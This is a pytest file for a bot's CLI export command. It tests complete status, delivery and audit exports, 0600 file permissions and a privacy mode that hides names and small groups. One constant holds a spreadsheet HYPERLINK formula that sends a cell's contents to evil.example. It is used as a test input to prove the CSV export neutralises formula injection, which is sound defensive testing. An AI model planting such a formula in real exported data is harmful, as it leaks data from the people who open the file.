"""What an operator takes out: complete, safe to open in a spreadsheet, and in the works-council mode about nobody."""

from __future__ import annotations

import asyncio
import csv
import json
import stat
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from bot.cli import app
from handlers.readiness import Provider
from storage.deliveries import PAGE
from storage.people import PersonRecord
from storage.store import Store
from tests.conftest import DATABASES, KEY, SUNDAY
from tests.storage.filled import NAMES, fill
from tests.storage.test_messages import message
from tests.trust.people import opened

Greenroom = Callable[..., Result]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'

pytestmark = pytest.mark.parametrize("database_url", DATABASES, indirect=True)


@pytest.fixture
async def company(database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> int:
    monkeypatch.chdir(tmp_path)
    given = {"DATABASE_URL": database_url, "SECRET_KEYS": KEY, "OWNERS": "ada@aurora.example", "COMPANY": "Aurora"}
    for name, value in given.items():
        monkeypatch.setenv(f"GREENROOM_{name}", value)
    async with opened(database_url) as store:
        return await fill(store)


@pytest.fixture
def greenroom(company: int) -> Greenroom:
    return lambda *words: CliRunner().invoke(app, list(words))


async def rows_of(greenroom: Greenroom, *words: str) -> list[dict[str, str]]:
    result = await asyncio.to_thread(greenroom, "export", *words)
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(result.stdout.splitlines()))


async def test_the_status_has_a_row_for_each_person_and_provider(greenroom: Greenroom) -> None:
    rows = await rows_of(greenroom, "status")
    assert len(rows) == len(NAMES) * len(Provider)
    assert {row["name"] for row in rows} == set(NAMES)
    ben = next(row for row in rows if row["name"] == "Ben Okafor" and row["provider"] == "zoom")
    assert ben["state"] != "ready"
    assert ben["cause"]
    assert ben["who_can_fix_it"]


async def test_the_deliveries_say_how_each_message_ended_and_not_what_it_said(
    greenroom: Greenroom, company: int, database_url: str
) -> None:
    more = PAGE + 3
    async with opened(database_url) as store:
        many = [message(company, id=f"n{number:05}", key=f"n{number}") for number in range(more)]
        await store.deliveries.add(many, SUNDAY + timedelta(minutes=1))
    rows = await rows_of(greenroom, "deliveries")
    assert len({row["id"] for row in rows}) == more + 1, "over the edge of a page, and each once"
    assert rows[0]["state"] == "queued"
    assert "reply" not in rows[0]


async def test_the_audit_trail_names_numbers_and_notes_the_export_itself(greenroom: Greenroom) -> None:
    first = await rows_of(greenroom, "audit")
    assert first[0]["action"] == "exported"
    second = await rows_of(greenroom, "audit")
    assert second[-1]["detail"] == "table=audit"
    assert not any(name in str(second) for name in NAMES)


@pytest.mark.parametrize("cell", [FORMULA, "+49 30", "-2+3", "@sum", "\t=1", "  =1"])
async def test_no_cell_is_a_formula_for_a_spreadsheet(
    greenroom: Greenroom, company: int, database_url: str, cell: str
) -> None:
    async with opened(database_url) as store:
        await _add(store, company, cell)
    rows = await rows_of(greenroom, "status")
    assert f"'{cell}" in {row["name"] for row in rows}
    assert all(not value.lstrip().startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


async def test_lines_of_json_are_for_programs_and_keep_every_character(
    greenroom: Greenroom, company: int, database_url: str, tmp_path: Path
) -> None:
    async with opened(database_url) as store:
        await _add(store, company, FORMULA)
    file = tmp_path / "status.jsonl"
    words = ("export", "status", "--format", "jsonl", "--output", str(file))
    done = await asyncio.to_thread(greenroom, *words)
    assert f"{(len(NAMES) + 1) * len(Provider)} rows are in" in done.output
    found = [json.loads(line) for line in (await asyncio.to_thread(file.read_text, "utf-8")).splitlines()]
    assert {FORMULA, *NAMES} == {row["name"] for row in found}
    mode = await asyncio.to_thread(lambda: stat.S_IMODE(file.stat().st_mode))
    assert mode == 0o600, "others on the machine must not read it"
    again = await asyncio.to_thread(greenroom, *words)
    assert again.exit_code == 1
    assert "is there already" in again.output


async def test_in_the_works_council_mode_nobody_is_in_it_and_no_small_group(
    greenroom: Greenroom, company: int, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GREENROOM_PRIVACY", "works_council")
    async with opened(database_url) as store:
        for number in range(6):
            await _add(store, company, f"Person {number}")
    rows = await rows_of(greenroom, "status")
    assert not any(name.split()[0] in str(rows) for name in NAMES)
    assert "aurora.example" not in str(rows)
    counts = {row["people"] for row in rows}
    assert counts <= {"fewer than 5", "6", "7", "8", "9"}, "a number below five shows who it is"
    assert {"fewer than 5"} < counts
    assert all({"person", "reminder"}.isdisjoint(row) for row in await rows_of(greenroom, "deliveries"))


async def _add(store: Store, company: int, name: str) -> None:
    email = f"p{abs(hash(name))}@aurora.example"
    await store.people.save(company, [PersonRecord(f"id-{name}", email, name, "en", "Europe/Berlin")])
